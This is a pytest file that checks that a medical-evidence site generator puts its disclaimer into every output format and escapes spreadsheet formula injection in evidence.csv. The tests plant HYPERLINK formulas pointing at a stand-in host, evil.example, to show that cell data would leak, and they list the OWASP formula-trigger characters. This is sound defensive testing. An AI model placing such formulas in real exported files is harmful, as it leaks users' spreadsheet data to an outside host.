"""The files beside the pages: every one carries the medical disclaimer in the form its format
allows, and evidence.csv cannot carry a live spreadsheet formula.

Sites are built with the real pipeline and every output file is read with the parser its format
calls for (HTML, JSON, CSV, XML, robots.txt), never matched with regular expressions.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import xml.etree.ElementTree as ET
from xml.dom import minidom
from pathlib import Path

import pytest

from conftest import REPO, read_tree
from ldn_site import metadata, pipeline
from ldn_site.views.cards import NOT_ADVICE
from test_disclaimer import assert_carries_disclaimer
from test_social_cards import read_png

FIXTURE = REPO / "tests" / "browser" / "site"
ATOM = "{http://www.w3.org/2005/Atom}"
# The disclaimers of the two sample sites (site.yaml), as plain text.
MINIMAL_TEXT = "Not medical advice. Information only."
FIXTURE_TEXT = ("Not medical advice. This is a test fixture about a fictional drug. It does not "
                "recommend any treatment.")
# Files that carry no disclaimer, and why: the stylesheet, the search script and the icon are
# not content; .ldn-site-output is the marker by which the generator knows its own output
# folder; references.bib is the bibliography of published works, copied byte for byte from
# sources/ (README: "exactly as in sources/references.bib").
EXEMPT = {"style.css", "search.js", "favicon.svg", ".ldn-site-output", "references.bib"}
NUMERIC = {"n", "value", "ci_low", "ci_high", "effect_n"}


def build(site: Path, out: Path) -> dict[str, bytes]:
    result = pipeline.build_site(str(site), output=str(out), use_cache=False, search=False)
    assert result.written, [d.format() for d in result.diagnostics]
    return read_tree(out)


def copy_fixture(dest: Path) -> Path:
    shutil.copytree(FIXTURE, dest)
    shutil.copytree(REPO / "templates", dest / "templates")
    return dest


# --- one check per format ------------------------------------------------------------------

def check_html(rel: str, data: bytes, text: str, page_text: str) -> None:
    assert_carries_disclaimer(rel, data.decode("utf-8"), page_text)


def check_json(rel: str, data: bytes, text: str, page_text: str) -> None:
    doc = json.loads(data)
    assert list(doc)[:2] == ["format", "disclaimer"], rel
    assert doc["disclaimer"]["text"] == text, rel
    assert doc["disclaimer"]["url"].endswith("/disclaimer.html"), rel


def check_csv(rel: str, data: bytes, text: str, page_text: str) -> None:
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
    assert rows, rel
    # Every row carries it, as read back through the escaping a formula would get.
    assert {row["disclaimer"] for row in rows} == {text}, rel


def check_xml(rel: str, data: bytes, text: str, page_text: str) -> None:
    root = ET.fromstring(data)
    if root.tag == f"{ATOM}feed":
        assert root.find(f"{ATOM}subtitle").text.endswith(" " + text), rel
        entries = root.findall(f"{ATOM}entry")
        assert entries, rel
        for entry in entries:
            assert entry.find(f"{ATOM}summary").text.endswith(" " + text), rel
        related = [link.get("href") for link in root.findall(f"{ATOM}link")
                   if link.get("rel") == "related"]
        assert len(related) == 1 and related[0].endswith("/disclaimer.html"), rel
    else:
        # The sitemap's comment comes before its root element: a document node, which
        # minidom keeps and ElementTree drops.
        doc = minidom.parseString(data)
        comments = [n.data for n in doc.childNodes if n.nodeType == n.COMMENT_NODE]
        assert comments == [f" {text} "], rel
        assert doc.documentElement.tagName == "urlset", rel


def check_txt(rel: str, data: bytes, text: str, page_text: str) -> None:
    lines = data.decode("utf-8").splitlines()
    assert f"# {text}" in lines, rel
    assert lines[lines.index(f"# {text}") + 1] == "User-agent: *", rel


def check_png(rel: str, data: bytes, text: str, page_text: str) -> None:
    """A social card is a picture of a few words, too small for the whole text: it shows
    "Not medical advice", as its alt text (stored in the PNG) says; the page it stands for
    carries the rest."""
    assert read_png(data)[2]["Description"].endswith(f" {NOT_ADVICE}."), rel


CHECKS = {".html": check_html, ".json": check_json, ".csv": check_csv, ".xml": check_xml,
          ".txt": check_txt, ".png": check_png}


def assert_every_output_carries(files: dict[str, bytes], text: str, page_text: str) -> dict:
    checked: dict[str, int] = {}
    for rel, data in sorted(files.items()):
        if rel in EXEMPT:
            continue
        ext = Path(rel).suffix
        assert ext in CHECKS, f"{rel}: a new kind of output file; say how it carries the " \
                              "disclaimer, or why it need not"
        CHECKS[ext](rel, data, text, page_text)
        checked[ext] = checked.get(ext, 0) + 1
    return checked


def test_every_output_file_of_the_minimal_site_carries_the_disclaimer(make_site, tmp_path):
    files = build(make_site("minimal"), tmp_path / "out")
    checked = assert_every_output_carries(files, MINIMAL_TEXT, MINIMAL_TEXT)
    assert checked[".json"] == 1 and checked[".csv"] == 1 and checked[".xml"] == 2
    assert checked[".txt"] == 1 and checked[".html"] >= 10


def test_every_output_file_of_the_fixture_site_carries_the_disclaimer(tmp_path):
    files = build(copy_fixture(tmp_path / "src"), tmp_path / "out")
    checked = assert_every_output_carries(files, FIXTURE_TEXT, FIXTURE_TEXT)
    assert set(checked) == set(CHECKS)


def test_the_data_files_follow_the_configured_disclaimer(make_site, tmp_path):
    """Control: the text comes from site.yaml, so another text is what every file carries,
    and the first one no longer passes."""
    site = make_site("minimal")
    config = site / "site.yaml"
    config.write_text(config.read_text("utf-8").replace(
        MINIMAL_TEXT, '"**Information only** -- not a substitute for your doctor."'), "utf-8")
    files = build(site, tmp_path / "out")
    text = "Information only - - not a substitute for your doctor."
    assert json.loads(files["data/claims.json"])["disclaimer"]["text"] == \
        "Information only -- not a substitute for your doctor."
    check_xml("sitemap.xml", files["sitemap.xml"], text, "")
    for rel in ("data/claims.json", "data/evidence.csv", "feed.xml", "sitemap.xml",
                "robots.txt"):
        with pytest.raises(AssertionError):
            CHECKS[Path(rel).suffix](rel, files[rel], MINIMAL_TEXT, MINIMAL_TEXT)


def test_an_xml_comment_never_holds_a_double_hyphen():
    assert metadata.xml_comment("a -- b ---") == "<!-- a - - b - - - -->"
    ET.fromstring(metadata.xml_comment("x--y-") + "<r/>")


# --- spreadsheet formula injection ---------------------------------------------------------

# OWASP's "CSV Injection" list of characters that make a spreadsheet read a cell as a
# formula, and the apostrophe that escapes them.
TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "'"]


@pytest.mark.parametrize("value, cell", [
    ("=HYPERLINK(\"https://evil.example\")", "'=HYPERLINK(\"https://evil.example\")"),
    ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("'quoted", "''quoted"),
    ("Pain, 0-10 scale", "Pain, 0-10 scale"), (" =1", " =1"), ("", ""), (None, ""),
    (-0.61, -0.61), (0, 0), (-3, -3), (1e-3, 1e-3),
])
def test_a_cell_is_escaped_only_when_a_spreadsheet_would_read_a_formula(value, cell):
    assert metadata.csv_cell(value) == cell


def hostile_site(site: Path, trigger: str) -> dict[str, str]:
    """Put a formula starting with ``trigger`` into every text that reaches evidence.csv:
    the claim's title, the study's title (BibTeX), dose and duration, the effect's outcome,
    and the disclaimer. Returns the texts, by CSV column."""
    formula = trigger + 'HYPERLINK("https://evil.example/?"&A1,"x")'
    values = {"claim_title": formula + " title", "source_title": formula + " study",
              "dose": formula + " dose", "duration": formula + " weeks",
              "outcome": formula + " pain", "disclaimer": formula + " Not medical advice."}
    q = json.dumps  # a JSON string is a YAML double-quoted scalar, escapes included

    def edit(rel: str, old: str, new: str) -> None:
        path = site / rel
        text = path.read_text("utf-8")
        assert old in text, (rel, old)
        path.write_text(text.replace(old, new), "utf-8")

    edit("claims/drug-reduces-pain.yaml", "title: The drug reduces pain",
         f"title: {q(values['claim_title'])}")
    edit("claims/drug-reduces-pain.yaml", "outcome: Pain", f"outcome: {q(values['outcome'])}")
    edit("sources/trial2020.yaml", "dose: 4.5 mg/day", f"dose: {q(values['dose'])}")
    edit("sources/trial2020.yaml", "duration: 12 weeks", f"duration: {q(values['duration'])}")
    edit("sources/references.bib", "title = {A placebo-controlled trial of a drug}",
         "title = {" + values["source_title"] + "}")
    edit("site.yaml", f"disclaimer: {MINIMAL_TEXT}", f"disclaimer: {q(values['disclaimer'])}")
    return values


@pytest.mark.parametrize("trigger", TRIGGERS, ids=["eq", "plus", "minus", "at", "tab", "cr",
                                                   "apostrophe"])
def test_no_cell_of_evidence_csv_starts_a_formula(make_site, tmp_path, trigger):
    site = make_site("minimal")
    values = hostile_site(site, trigger)
    files = build(site, tmp_path / "out")
    rows = list(csv.DictReader(io.StringIO(files["data/evidence.csv"].decode("utf-8"),
                                           newline="")))
    assert len(rows) == 1
    row = rows[0]
    for column, cell in row.items():
        if column in NUMERIC:
            continue
        assert not cell.startswith(tuple(TRIGGERS[:-1])), (column, cell)
    for column, original in values.items():
        if column in ("source_title", "disclaimer"):
            # BibTeX fields and the disclaimer's plain text have their whitespace collapsed,
            # a leading tab or line end included.
            original = " ".join(original.split())
        # Spreadsheets show the text; a program gets it back by removing one apostrophe.
        expected = "'" + original if original.startswith(tuple(TRIGGERS)) else original
        assert row[column] == expected, column
    # Numbers are data, not formulas: a negative effect stays a plain negative number.
    assert (row["value"], row["ci_low"], row["ci_high"], row["n"]) == ("-0.5", "-0.9", "-0.1",
                                                                       "40")
    # The JSON keeps every text as it is: only a spreadsheet format needs the escape.
    claim = json.loads(files["data/claims.json"])["claims"][0]
    assert claim["title"] == values["claim_title"]
    assert claim["evidence"][0]["effect"]["outcome"] == values["outcome"]
